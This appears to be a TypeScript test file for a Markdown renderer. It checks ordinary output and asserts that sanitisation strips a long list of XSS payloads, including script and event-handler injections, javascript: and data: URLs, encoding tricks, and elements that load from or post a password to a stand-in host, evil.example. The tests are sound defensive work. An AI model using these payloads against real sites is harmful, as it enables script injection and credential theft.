import { run as render } from './render-markdown.task';

const TAGS = /^\/?(h[1-6]|p|br|hr|blockquote|ul|ol|li|pre|code|em|strong|s|a|img|table|thead|tbody|tr|th|td)$/;
const ATTRIBUTES = /^(href|title|rel|src|alt|start|class)$/;

/** Everything in the HTML that could run or load something: tags, attributes and addresses of no known harmless kind. */
function dangers(html: string): string[] {
  const tags = [...html.matchAll(/<((?:"[^"]*"|[^">])*)>/g)].map(([, tag = '']) => tag);
  return tags.flatMap((tag) => {
    const [name = ''] = /^\/?\w*/.exec(tag) ?? [];
    const attributes = tag
      .slice(name.length)
      .replaceAll(/="[^"]*"/g, '')
      .split(/[\s/]+/);
    const addresses = [...tag.matchAll(/\s(?:href|src)="([^"]*)"/g)].map(([, address = '']) => address);
    const allowed = name === 'img' ? /^https:\/\// : /^(https?:\/\/|mailto:)/;
    return [
      ...(TAGS.test(name) ? [] : [name]),
      ...attributes.filter((attribute) => attribute !== '' && !ATTRIBUTES.test(attribute)),
      ...addresses.filter((address) => !allowed.test(address)),
    ];
  });
}

describe('Markdown becomes HTML', () => {
  it.each([
    ['# Title\n\nText.', '<h1>Title</h1>\n<p>Text.</p>\n'],
    ['*em* **strong** ~~gone~~ `code`', '<p><em>em</em> <strong>strong</strong> <s>gone</s> <code>code</code></p>\n'],
    ['3. three\n4. four', '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'],
    ['```js\na < b;\n```', '<pre><code class="language-js">a &lt; b;\n</code></pre>\n'],
    [
      '![A dragon](https://example.com/d.png "D")',
      '<p><img src="https://example.com/d.png" alt="A dragon" title="D" /></p>\n',
    ],
    ['Grüße 👋 日本語 \u202eabc', '<p>Grüße 👋 日本語 \u202eabc</p>\n'],
    ['', ''],
  ])('%j', (text, html) => expect(render(text)).toBe(html));

  it('with links that hand on nothing of the page', () => {
    const rel = 'rel="noopener noreferrer nofollow ugc"';
    expect(render('[a](https://example.com/?a=1&b=2) https://example.org')).toBe(
      `<p><a href="https://example.com/?a=1&amp;b=2" ${rel}>a</a> <a href="https://example.org" ${rel}>https://example.org</a></p>\n`,
    );
  });

  it('with tables', () => {
    expect(render('| a |\n|:-:|\n| 1 |').replaceAll('\n', '')).toBe(
      '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    );
  });
});

describe('Nothing in the HTML runs or loads anything but images over https', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><script href="data:,alert(1)"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="evil.swf">',
    '<a href="javascript:alert(1)">x</a>',
    '<body onload=alert(1)><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<link rel=stylesheet href=//evil.example><style>@import "//evil.example"</style>',
    '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](  java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    '![x](http://example.com/tracker.gif)',
    '![x](//evil.example/x.png)',
    '![x" onerror="alert(1)](https://example.com/x.png)',
    '![<img src=x onerror=alert(1)>](https://example.com/x.png)',
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onclick="alert(1)\nx\n```',
    '`<script>alert(1)</script>`',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '[ref]\n\n[ref]: javascript:alert(1) "x"',
    '\u0000<script\u0000>alert(1)</script>',
    '<div style="background:url(javascript:alert(1))">x</div>',
  ])('%j', (text) => {
    expect(dangers(render(text))).toEqual([]);
  });

  it.each([
    ['<script>x</script>', ['script', '/script']],
    ['<p><img src="https://a" onerror="a" /></p>', ['onerror']],
    ['<a href="javascript:a" title="b">c</a>', ['javascript:a']],
    ['<img src="http://a" />', ['http://a']],
    ['<svg/onload=a>', ['svg', 'onload=a']],
  ])('by a check that sees %j', (html, found) => expect(dangers(html)).toEqual(found));
});
